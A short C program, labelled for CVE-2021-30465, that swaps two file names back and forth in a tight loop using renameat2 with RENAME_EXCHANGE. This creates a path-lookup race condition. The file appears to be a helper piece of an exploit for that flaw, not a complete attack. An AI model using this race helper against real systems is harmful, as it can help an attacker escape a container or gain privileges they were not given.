/*
 * CVE-2021-30465: exchanges two names again and again, so that whoever looks one up twice sees two
 * things.
 *
 *   swap ONE OTHER
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

enum { PAUSE_MICROSECONDS = 50 };

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	puts("swapping");
	fflush(stdout);
	while (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
		usleep(PAUSE_MICROSECONDS);
	perror("renameat2");
	return 1;
}
